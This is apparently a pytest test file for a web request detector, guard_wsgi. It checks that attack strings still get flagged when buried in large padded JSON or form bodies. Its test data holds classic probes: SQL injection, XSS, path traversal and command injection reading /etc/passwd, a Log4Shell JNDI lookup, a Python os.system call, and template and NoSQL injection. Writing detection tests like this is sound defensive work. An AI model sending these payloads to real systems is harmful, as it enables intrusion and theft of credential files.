"""A body with too much to weigh hides no attack that is in a field by itself."""

from __future__ import annotations

import base64
import json
from collections.abc import Callable
from urllib.parse import urlencode
from zlib import compress

import pytest

from guard_wsgi.detection import DetectionSettings, Detector, Inspection

ATTACKS = (
    "1' UNION SELECT password FROM users-- ",
    "<script>alert(1)</script>",
    "../../../../etc/passwd",
    "; cat /etc/passwd",
    "${jndi:ldap://x.example/a}",
)
Kind = Callable[[str, bool], tuple[bytes, str]]
FORM = "application/x-www-form-urlencoded"
MANY = 21_000
DOCUMENT = "It's `x = [1, 2]` in *the* docs; don't <b>worry</b>, run `ls -l | wc` first.\n" * 8000


def same(attack: str, first: bool) -> tuple[bytes, str]:
    """One trace, repeated."""
    fields = [("x", attack), ("p", ["'"] * 66_000 + [1])]
    return json.dumps(dict(fields if first else fields[::-1])).encode(), "application/json"


def distinct(attack: str, first: bool) -> tuple[bytes, str]:
    rows = [f"'{number} x y z" for number in range(MANY)]
    rows = [attack, *rows] if first else [*rows, attack]
    return json.dumps({"rows": rows}).encode(), "application/json"


def form(attack: str, first: bool) -> tuple[bytes, str]:
    pairs = [(f"a{number}", f"'{number}") for number in range(MANY)]
    pairs = [("x", attack), *pairs] if first else [*pairs, ("x", attack)]
    return urlencode(pairs).encode(), FORM


def beside_a_document(attack: str, first: bool) -> tuple[bytes, str]:
    fields = [("x", attack), ("text", DOCUMENT)]
    return json.dumps(dict(fields if first else fields[::-1])).encode(), "application/json"


def in_a_form_beside_a_document(attack: str, first: bool) -> tuple[bytes, str]:
    fields = [("x", attack), ("text", DOCUMENT)]
    return urlencode(fields if first else fields[::-1]).encode(), FORM


DOCUMENTS = (beside_a_document, in_a_form_beside_a_document)
ROWS = (same, distinct, form)


@pytest.mark.parametrize("first", [True, False], ids=["first", "last"])
@pytest.mark.parametrize(
    ("kind", "attack"),
    [
        *((kind, attack) for kind in DOCUMENTS for attack in ATTACKS),
        # Not each of so many short values is weighed: evidence that is enough by itself is found.
        *((kind, attack) for kind in ROWS for attack in ATTACKS[:2]),
    ],
    ids=lambda each: getattr(each, "__name__", None),
)
def test_no_padding_hides_a_bare_attack(
    inspection: Inspection, kind: Kind, attack: str, first: bool
) -> None:
    body, media = kind(attack, first)
    found = inspection.body(body, content_type=media)
    reported = {"max_body_bytes"}
    assert [one for one in found if not reported.issuperset(one.indicators)], found


def test_a_document_and_harmless_rows_are_reported_only(inspection: Inspection) -> None:
    rows = [f"Ticket {number}: the parcel didn't come, don't wait" for number in range(9000)]
    for value in (DOCUMENT, rows):
        body = json.dumps({"value": value}).encode()
        found = inspection.body(body, content_type="application/json")
        assert all(one.indicators == ("max_body_bytes",) for one in found), found


def test_what_is_excluded_by_name_stays_excluded_behind_padding() -> None:
    inspection = Detector().compile(DetectionSettings(excluded_body_fields={"sql"}))
    body = json.dumps({"p": [f"'{n} x" for n in range(MANY)], "sql": ATTACKS[0]}).encode()
    found = inspection.body(body, content_type="application/json")
    assert all(one.category == "detection_budget" for one in found), found


@pytest.mark.parametrize("mebibytes", [3, 7])
@pytest.mark.parametrize("first", [True, False], ids=["first", "last"])
@pytest.mark.parametrize("attack", ATTACKS)
def test_no_length_of_a_harmless_text_hides_an_attack_in_it(
    inspection: Inspection, attack: str, first: bool, mebibytes: int
) -> None:
    text = "the order was sent on monday and arrived in good shape " * (mebibytes * 19_000)
    value = f"{attack} {text}" if first else f"{text} {attack}"
    for body, media in (
        (json.dumps({"text": value}).encode(), "application/json"),
        (urlencode({"text": value}).encode(), FORM),
    ):
        found = inspection.body(body, content_type=media)
        assert [one for one in found if one.category != "detection_budget"], (media, found)


SHORT_ATTACKS = (
    "__import__('os').system('id')",
    ";id",
    "admin'-- -",
    '{"$gt":""}',
    "{{7*7}}",
    "1' OR '1'='1' -- ",
    "javascript:alert(1)",
)


def packed(number: int) -> str:
    return base64.b64encode(compress(f"<a>{number}'".encode() * 60_000)).decode()


def sentence(number: int) -> str:
    return f"it's <b>{number}</b> `x` {{{{y}}}} http://127.0.0.1/ " * 10


FILLERS: dict[str, object] = {
    "compressed values": [packed(number) for number in range(200)],
    "sentences": [sentence(number) for number in range(600)],
    "fields of many names": {
        f"{chr(97 + number % 26)}{'x' * (number // 26)}": sentence(number) for number in range(300)
    },
    "short values": [f"'{number} x y {{{{a}}}}" for number in range(4000)],
    "no UTF-8": [f"\x80'{number} {{{{a}}}}" * 20 for number in range(800)],
    "a page": "".join(f"<p class='a'>it's <b>{n}</b> && `y`</p>\n" for n in range(6000)),
}


@pytest.mark.parametrize("first", [True, False], ids=["first", "last"])
@pytest.mark.parametrize("attack", SHORT_ATTACKS)
@pytest.mark.parametrize("filler", FILLERS)
def test_no_filler_hides_what_is_refused_in_a_field_alone(
    inspection: Inspection, filler: str, attack: str, first: bool
) -> None:
    fields = [("q", attack), ("pad", FILLERS[filler])]
    body = json.dumps(dict(fields if first else fields[::-1])).encode()
    found = inspection.body(body, content_type="application/json")
    assert [one for one in found if one.indicators != ("max_body_bytes",)], found
    alone = inspection.body(json.dumps({"q": attack}).encode(), content_type="application/json")
    assert alone


@pytest.mark.parametrize("filler", ["compressed values", "sentences", "a page"])
def test_the_fillers_alone_are_reported(inspection: Inspection, filler: str) -> None:
    body = json.dumps({"q": "shoes", "pad": FILLERS[filler]}).encode()
    found = inspection.body(body, content_type="application/json")
    assert [one.indicators for one in found] in ([], [("max_body_bytes",)])
